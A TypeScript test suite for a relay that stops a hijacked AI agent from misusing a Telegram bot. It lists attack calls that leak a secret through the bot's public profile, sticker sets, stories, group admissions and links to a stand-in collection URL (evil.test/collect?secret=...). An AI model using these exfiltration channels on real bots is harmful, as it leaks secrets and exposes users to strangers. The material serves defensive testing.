// Issue 13 item 5, through the real relay against the fake Bot API: an attacker holding the agent
// uses Bot API methods whose effect is public or reaches strangers (the bot's profile, sticker
// sets, stories, admitting a stranger into an allowed group, URLs Telegram's servers fetch, link
// previews). Each is refused before it reaches Telegram, while the calls a conversation makes
// (OpenClaw's start-up and replies, through grammY) still go through.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { GrammyError, InputFile } from "grammy";
import { FILE_BYTES } from "../../src/lab/fakes/telegram.js";
import { GROUP, OWNER, STRANGER, updateOfType } from "../support/telegram-updates.js";
import { ALLOWED_WEB_HOST, TelegramWorld } from "../support/telegram-world.js";

const EVIL = "https://evil.test/collect?secret=s3cr3t";
const BOT_ID = 7000000001; // the numeric part of the real token TelegramWorld uses

// [what the attacker does, the Bot API method, its parameters]
const attacks: [string, string, Record<string, unknown>][] = [
  ["public bot description", "setMyDescription", { description: "s3cr3t" }],
  ["public short description", "setMyShortDescription", { short_description: "s3cr3t" }],
  ["public bot name", "setMyName", { name: "s3cr3t" }],
  [
    "commands shown in a stranger's chat",
    "setMyCommands",
    { commands: [{ command: "x", description: "s3cr3t" }], scope: { type: "chat", chat_id: STRANGER } },
  ],
  [
    "menu button opening a web app on a stranger's host",
    "setChatMenuButton",
    { chat_id: OWNER, menu_button: { type: "web_app", text: "open", web_app: { url: EVIL } } },
  ],
  [
    "public sticker set",
    "createNewStickerSet",
    {
      user_id: OWNER,
      name: "s3cr3t_by_moat_test_bot",
      title: "s3cr3t",
      stickers: [{ sticker: "file-1", format: "static", emoji_list: ["x"] }],
    },
  ],
  ["public sticker set title", "setStickerSetTitle", { name: "s_by_moat_test_bot", title: "s3cr3t" }],
  [
    "public story",
    "postStory",
    { business_connection_id: "bc1", content: { type: "photo", photo: "attach://p" }, active_period: 86400 },
  ],
  ["stranger let into the group", "approveChatJoinRequest", { chat_id: GROUP, user_id: STRANGER }],
  ["stranger unbanned in the group", "unbanChatMember", { chat_id: GROUP, user_id: STRANGER }],
  [
    "stranger made admin of the group",
    "promoteChatMember",
    { chat_id: GROUP, user_id: STRANGER, can_invite_users: true },
  ],
  ["invite link to hand a stranger", "createChatInviteLink", { chat_id: GROUP }],
  ["read a stranger's public sticker set", "getStickerSet", { name: "AttackerMailbox" }],
  ["photo Telegram fetches from a stranger's host", "sendPhoto", { chat_id: OWNER, photo: EVIL }],
  ["document Telegram fetches from a stranger's host", "sendDocument", { chat_id: OWNER, document: EVIL }],
  [
    "button opening a stranger's host",
    "sendMessage",
    { chat_id: OWNER, text: "tap", reply_markup: { inline_keyboard: [[{ text: "go", url: EVIL }]] } },
  ],
  [
    "login button handing the owner's identity to a stranger",
    "sendMessage",
    {
      chat_id: OWNER,
      text: "log in",
      reply_markup: { inline_keyboard: [[{ text: "in", login_url: { url: EVIL } }]] },
    },
  ],
];

describe("telegram relay: only what a conversation needs is forwarded", () => {
  const world = new TelegramWorld();
  before(() => world.start());
  after(() => world.stop());

  for (const [what, method, params] of attacks) {
    test(`refused: ${what} (${method})`, async () => {
      const before = world.fake.calls.length;
      await assert.rejects(
        world.bot().api.raw[method as "getMe"](params as never),
        (e: unknown) =>
          e instanceof GrammyError &&
          e.error_code === 403 &&
          e.description.includes(`moat: denied: telegram method ${method}`),
      );
      assert.deepEqual(
        world.fake.calls.slice(before).map((c) => c.method),
        [],
        `${method} reached Telegram with the real token`,
      );
      assert.ok(world.audit.some((r) => r.event === "telegram.refuse" && r.method === method));
    });
  }

  test("multipart uploads get the same checks on their fields", async () => {
    const api = world.bot().api;
    const before = world.fake.calls.length;
    const denied = (e: unknown) =>
      e instanceof GrammyError &&
      e.error_code === 403 &&
      /moat: denied: telegram method send/.test(e.description);
    await assert.rejects(
      api.sendDocument(OWNER, EVIL, { thumbnail: new InputFile(FILE_BYTES, "t.png") }),
      denied,
    );
    await assert.rejects(
      api.sendPhoto(OWNER, new InputFile(FILE_BYTES, "p.png"), {
        reply_markup: { inline_keyboard: [[{ text: "go", url: EVIL }]] },
      }),
      denied,
    );
    await assert.rejects(
      api.sendMediaGroup(OWNER, [
        { type: "photo", media: new InputFile(FILE_BYTES, "a.png") },
        { type: "photo", media: EVIL },
      ]),
      denied,
    );
    assert.equal(world.fake.calls.length, before, "a multipart attack reached Telegram");
  });

  test("a link preview of a stranger's URL is switched off before Telegram sees the message", async () => {
    const api = world.bot().api;
    await api.sendMessage(OWNER, `look: ${EVIL}`);
    await api.sendMessage(OWNER, "look", { link_preview_options: { url: EVIL } });
    await api.raw.sendMessage({
      chat_id: OWNER,
      text: `look ${EVIL}`,
      disable_web_page_preview: false,
    } as never);
    const sent = world.fake.callsTo("sendMessage").slice(-3);
    for (const call of sent) {
      assert.deepEqual(call.params.link_preview_options, { is_disabled: true }, JSON.stringify(call.params));
      assert.equal(call.params.disable_web_page_preview, undefined);
    }
  });

  test("a link preview of an allowlisted URL is kept, pinned to that URL", async () => {
    const mine = `https://${ALLOWED_WEB_HOST}/guide`;
    await world.bot().api.sendMessage(OWNER, `see ${mine} (and not ${EVIL})`);
    const call = world.fake.callsTo("sendMessage").at(-1);
    assert.deepEqual(call?.params.link_preview_options, { url: mine });
  });

  test("the command menu OpenClaw sets at start-up shows only in allowlisted chats", async () => {
    const api = world.bot().api;
    const before = world.fake.calls.length;
    const commands = [{ command: "new", description: "New session" }];
    assert.equal(await api.setMyCommands(commands), true);
    assert.equal(await api.setMyCommands(commands, { scope: { type: "all_group_chats" } }), true);
    assert.equal(await api.deleteMyCommands({ scope: { type: "all_private_chats" } }), true);
    const sent = world.fake.calls.slice(before).map((c) => [c.method, c.params.scope, c.params.commands]);
    assert.deepEqual(sent, [
      ["setMyCommands", { type: "chat", chat_id: OWNER }, commands],
      ["setMyCommands", { type: "chat", chat_id: GROUP }, commands],
      ["setMyCommands", { type: "chat", chat_id: GROUP }, commands],
      ["deleteMyCommands", { type: "chat", chat_id: OWNER }, undefined],
    ]);
  });

  test("a conversation as OpenClaw holds it still works", async () => {
    const api = world.bot().api;
    const before = world.fake.calls.length;
    const auditBefore = world.audit.length;
    // Start-up.
    await api.getMe();
    await api.deleteWebhook();
    await api.deleteMyCommands();
    await api.deleteMyCommands({ scope: { type: "all_group_chats" } });
    await api.setMyCommands([{ command: "new", description: "New session" }]);
    await api.setMyCommands([{ command: "new", description: "New session" }], {
      scope: { type: "all_group_chats" },
      language_code: "de",
    });
    await api.getChatMember(GROUP, BOT_ID);
    await api.getChat(GROUP);
    // A reply.
    await api.sendChatAction(OWNER, "typing");
    const m = await api.sendMessage(OWNER, "working on it", { reply_parameters: { message_id: 1 } });
    await api.editMessageText(OWNER, m.message_id, "done", { link_preview_options: { is_disabled: true } });
    await api.setMessageReaction(OWNER, 1, [{ type: "emoji", emoji: "👍" }]);
    await api.sendPhoto(OWNER, new InputFile(FILE_BYTES, "chart.png"), { caption: "chart" });
    await api.sendDocument(GROUP, new InputFile(FILE_BYTES, "report.txt"));
    await api.sendPhoto(OWNER, `https://${ALLOWED_WEB_HOST}/chart.png`);
    await api.sendMessage(OWNER, "pick", {
      reply_markup: { inline_keyboard: [[{ text: "yes", callback_data: "y" }]] },
    });
    await api.editMessageReplyMarkup(OWNER, m.message_id, { reply_markup: { inline_keyboard: [] } });
    await api.pinChatMessage(GROUP, 3);
    await api.deleteMessage(OWNER, m.message_id);
    await api.getFile("file-1");
    const methods = world.fake.calls.slice(before).map((c) => c.method);
    assert.equal(methods.length, 22, methods.join(" "));
    assert.deepEqual(
      world.audit.slice(auditBefore).filter((r) => r.event === "telegram.refuse"),
      [],
    );
  });

  test("a callback query from the owner is answered", async () => {
    const bot = world.bot();
    const seen: string[] = [];
    bot.on("callback_query", (ctx) => {
      seen.push(ctx.callbackQuery.id);
    });
    bot.catch(() => {});
    await new Promise<void>((started) => void bot.start({ timeout: 1, onStart: () => started() }));
    world.fake.push(updateOfType("callback_query", OWNER, OWNER));
    while (seen.length === 0) await new Promise((r) => setTimeout(r, 20));
    await bot.stop();
    assert.equal(await world.bot().api.answerCallbackQuery(`cb${OWNER}`, { text: "ok" }), true);
  });
});

describe("negative control: with the method check switched off, the same attacks reach Telegram", () => {
  const world = new TelegramWorld();
  before(() => world.start({ methodCheck: (_method, params) => ({ ok: true, calls: [{ ...params }] }) }));
  after(() => world.stop());

  test("every attack is forwarded with the real token, and the preview is left to Telegram", async () => {
    const api = world.bot().api;
    for (const [, method, params] of attacks) await api.raw[method as "getMe"](params as never);
    await api.sendMessage(OWNER, `look: ${EVIL}`);
    assert.deepEqual(
      world.fake.calls.map((c) => c.method),
      [...attacks.map(([, method]) => method), "sendMessage"],
    );
    assert.equal(world.fake.calls.at(-1)?.params.link_preview_options, undefined);
  });
});
